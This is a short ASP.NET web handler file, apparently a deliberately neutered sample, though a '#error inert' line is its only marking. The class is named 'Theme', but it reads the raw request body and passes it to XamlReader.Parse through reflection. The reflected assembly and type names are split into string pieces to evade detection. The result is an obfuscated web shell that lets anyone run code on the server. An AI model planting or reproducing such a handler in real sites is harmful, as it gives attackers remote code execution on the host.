<%@ WebHandler Language="C#" Class="Inert.Nothing" %>
#error inert
using System; using System.IO; using System.Web; using System.Reflection;
public class Theme : IHttpHandler {
  public bool IsReusable { get { return false; } }
  public void ProcessRequest(HttpContext c) {
    var text = new StreamReader(c.Request.InputStream).ReadToEnd();
    var pf = Assembly.LoadWithPartialName("Presentation" + "Framework");
    pf.GetType("System.Windows.Markup.Xaml" + "Reader").GetMethod("Parse", new[] { typeof(string) }).Invoke(null, new object[] { text });
  }
}
